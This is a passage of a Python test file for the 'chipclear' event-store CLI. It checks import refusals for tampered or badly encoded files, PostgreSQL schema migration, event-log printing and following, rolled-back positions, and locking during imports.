    assert proc.stdout is not None and proc.stderr is not None
    assert proc.stdout.read(100).startswith(b'{"record":"header"')
    proc.stdout.close()  # `| head -c 100`
    err = proc.stderr.read().decode()
    proc.wait(timeout=30)
    assert "Traceback" not in err and "Exception ignored" not in err, err


def test_cli_import_refusals(
    event_store: EventStore,
    source_store: tuple[SQLiteEventStore, Filled],
    export_lines: list[str],
    tmp_path: Path,
) -> None:
    files = tmp_path / "files"
    files.mkdir()
    (files / "good.jsonl").write_text("".join(export_lines), encoding="utf-8")
    (files / "tampered.jsonl").write_text("".join(edit_units(list(export_lines))), encoding="utf-8")
    (files / "latin1.jsonl").write_bytes(export_lines[0].encode() + '{"actor": "Müller"}\n'.encode("latin-1"))
    (files / "bad.csv").write_text("position,event\n1,x\n", encoding="utf-8")
    url = store_url(event_store)
    trusting = auditor_env(tmp_path)
    tampered = invoke(url, "store", "import", files / "tampered.jsonl", env=trusting)
    assert tampered.exit_code == 2, tampered.output
    assert "nothing was imported" in flat(tampered.stderr)
    assert "'req-000' at version 1" in flat(tampered.stderr)
    missing = invoke(url, "store", "import", files / "nowhere.jsonl", env=trusting)
    assert missing.exit_code == 2 and "no such file" in flat(missing.stderr)
    latin1 = invoke(url, "store", "import", files / "latin1.jsonl", env=trusting)
    assert latin1.exit_code == 2, latin1.output
    assert "not UTF-8" in flat(latin1.stderr)
    bad_csv = invoke(url, "store", "import", files / "bad.csv", env=trusting)
    assert bad_csv.exit_code == 2 and "line 1: expected the columns" in flat(bad_csv.stderr)
    for result in (tampered, missing, latin1, bad_csv):
        assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert_empty(event_store)

    good = invoke(url, "store", "import", files / "good.jsonl", env=trusting)
    assert good.exit_code == 0, good.output
    assert "every chain, seal and signed act verified against policy audit-test" in flat(good.stdout)
    before = body(event_store)
    again = invoke(url, "store", "import", files / "good.jsonl", env=trusting)
    assert again.exit_code == 1, again.output
    assert "not empty" in flat(again.stderr)
    assert body(event_store) == before


def test_cli_migrate_a_fresh_postgresql_schema(postgres: Cluster, tmp_path: Path) -> None:
    url = postgres.new_schema()
    env = cli_env(url, tmp_path)
    latest = PG_MIGRATIONS[-1].version
    steps = [{"version": m.version, "name": m.name} for m in PG_MIGRATIONS]

    # Un-migrated: every command that needs the store refuses and names the fix; --check reports.
    verify, export, check, check_json = run_all(
        env,
        ["audit", "verify"],
        ["store", "export"],
        ["store", "migrate", "--check"],
        ["store", "migrate", "--check", "--json"],
    )
    refused(verify, "schema is at version 0", "chipclear store migrate")
    assert refused(export, "chipclear store migrate").stdout == ""
    assert check.returncode == 1, show(check)
    assert f"pending {steps[0]['version']}: {steps[0]['name']}" in flat(check.stdout)
    assert f"schema version 0, {len(steps)} pending" in flat(check.stdout)
    assert check_json.returncode == 1, show(check_json)
    assert json.loads(check_json.stdout) == {"event_store": url, "schema_version": 0, "pending": steps}

    applied = ok(chipclear(env, "store", "migrate"))
    for step in steps:
        assert f"applied {step['version']}: {step['name']}" in flat(applied.stdout)
    assert f"schema version {latest}, up to date" in flat(applied.stdout)

    again, again_json, check_after, verify_after = run_all(
        env,
        ["store", "migrate"],
        ["store", "migrate", "--json"],
        ["store", "migrate", "--check"],
        ["audit", "verify"],
    )
    ok(again)
    assert "applied" not in again.stdout and f"schema version {latest}, up to date" in flat(again.stdout)
    assert json.loads(ok(again_json).stdout) == {"event_store": url, "schema_version": latest, "applied": []}
    assert f"schema version {latest}, up to date" in flat(ok(check_after).stdout)
    assert "intact: 0 streams, 0 events" in flat(ok(verify_after).stdout)


def log_lines(result: subprocess.CompletedProcess[str]) -> list[dict[str, Any]]:
    return [json.loads(line) for line in ok(result).stdout.splitlines()]


def test_cli_events_prints_the_whole_log(event_store: EventStore, tmp_path: Path) -> None:
    append_all(event_store, scenarios(len(KINDS)))
    log = list(event_store.read_all())
    env = cli_env(store_url(event_store), tmp_path)
    cut = log[9].position
    whole, text, after, count, after_count = run_all(
        env,
        ["events", "--json"],
        ["events"],
        ["events", "--json", "--after", str(cut)],
        ["events", "--json", "--count", "5"],
        ["events", "--json", "--after", str(cut), "--count", "3"],
    )

    printed = log_lines(whole)
    assert [(e["position"], e["event_id"]) for e in printed] == [(e.position, e.event_id) for e in log]
    assert all(a["position"] < b["position"] for a, b in pairwise(printed))
    assert printed[0] == {
        "position": log[0].position,
        "event_id": log[0].event_id,
        "stream_id": log[0].stream_id,
        "version": 1,
        "type": "RequestSubmitted",
        "data": log[0].data_json(),
        "occurred_at": printed[0]["occurred_at"],
        "recorded_at": printed[0]["recorded_at"],
        "policy_version": log[0].policy_version,
        "actor": log[0].actor,
        "act": log[0].act,  # the applicant's signed submission, signature and all
        "prev_hash": log[0].prev_hash,
        "hash": log[0].hash,
    }
    assert printed[0]["act"] is not None and printed[0]["act"]["signature"]["key"].startswith("ed25519:")
    lines = ok(text).stdout.splitlines()
    assert len(lines) == len(log)
    for line, event in zip(lines, log, strict=True):
        assert line.split()[:3] == [str(event.position), event.stream_id, f"v{event.version}"]
    assert [e["event_id"] for e in log_lines(after)] == [e.event_id for e in log[10:]]
    assert [e["event_id"] for e in log_lines(count)] == [e.event_id for e in log[:5]]
    assert [e["event_id"] for e in log_lines(after_count)] == [e.event_id for e in log[10:13]]


def test_cli_events_follow_returns_once_count_events_arrived(event_store: EventStore, tmp_path: Path) -> None:
    append_all(event_store, [scenario("licensed", "req-before")])
    start = max(e.position for e in event_store.read_all())
    first, second = scenario("withdrawn", "req-follow-1"), scenario("expired", "req-follow-2")
    wanted = len(first.events) + len(second.events)
    command = [
        str(CHIPCLEAR),
        "events",
        "--follow",
        "--json",
        "--after",
        str(start),
        "--count",
        str(wanted),
    ]
    proc = subprocess.Popen(
        command,
        env=cli_env(store_url(event_store), tmp_path),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        append_all(event_store, [first])
        assert proc.stdout is not None
        early = [proc.stdout.readline() for _ in first.events]  # printed as they arrive
        time.sleep(1.0)  # two polls with nothing new: the follower must keep waiting, not exit
        assert proc.poll() is None, proc.communicate()
        append_all(event_store, [second])
        rest, err = proc.communicate(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert proc.returncode == 0, err
    printed = [json.loads(line) for line in [*early, *rest.splitlines()]]
    assert [e["event_id"] for e in printed] == [e.event_id for e in [*first.events, *second.events]]
    assert all(e["position"] > start for e in printed)
    assert all(a["position"] < b["position"] for a, b in pairwise(printed))


def test_cli_events_on_postgresql_prints_events_after_a_rolled_back_position(
    pg_url: str, tmp_path: Path
) -> None:
    """Without --follow, `chipclear events` prints everything final now: a hole left by a rolled-back
    append (right after the start here, or just after `--after N`) is waited out, not taken for the
    end of the log. An import keeps such holes, so a moved log has them too."""
    store = PostgresEventStore(pg_url, projections=PROJECTIONS, recorder=RECORDER)
    try:
        conn = psycopg.connect(split_url(pg_url)[0], autocommit=False)
        try:  # an append that drew position 1 and then rolled back (a lost connection, a crash)
            append_in(store, _Tx(conn), "req-lost", 0, scenario("withdrawn", "req-lost").batches[0])
        finally:
            conn.rollback()
            conn.close()
        append_all(store, scenarios(2))
        log = list(store.read_all())
        assert log[0].position > 1
        printed = log_lines(chipclear(cli_env(pg_url, tmp_path), "events", "--json"))
        assert [e["event_id"] for e in printed] == [e.event_id for e in log]
    finally:
        store.close()


def test_a_writer_arriving_during_an_import_waits_and_then_continues_the_log(
    pg_url: str, export_lines: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """An import locks out appenders until it commits; they then see the imported heads and positions."""
    target = PostgresEventStore(pg_url, projections=PROJECTIONS, recorder=RECORDER)
    importing, release = threading.Event(), threading.Event()

    def paused_rebuild(backend: Any, tx: Any) -> int:
        importing.set()
        assert release.wait(timeout=30)
        return rebuild(backend, tx)

    monkeypatch.setattr("chipclear.store.sql_transfer.rebuild", paused_rebuild)
    results: list[Any] = []
    loader = threading.Thread(target=lambda: results.append(target.load(read_jsonl(export_lines))))
    writer = threading.Thread(target=lambda: results.append(target.append("ledger", 0, [grant("ledger", 1)])))
    try:
        loader.start()
        assert importing.wait(timeout=30)
        writer.start()
        deadline = time.monotonic() + 20
        while lock_waiters(target) < 1:
            assert time.monotonic() < deadline, "the appender did not wait for the import"
            time.sleep(0.02)
        release.set()
        loader.join(timeout=30)
        writer.join(timeout=30)
        assert len(results) == 2, results
        imported = max(e.position for e in target.read_all() if e.stream_id != "ledger")
        [appended] = target.read_stream("ledger")
        assert appended.position > imported
        assert target.verify().ok
    finally:
        release.set()
        target.close()
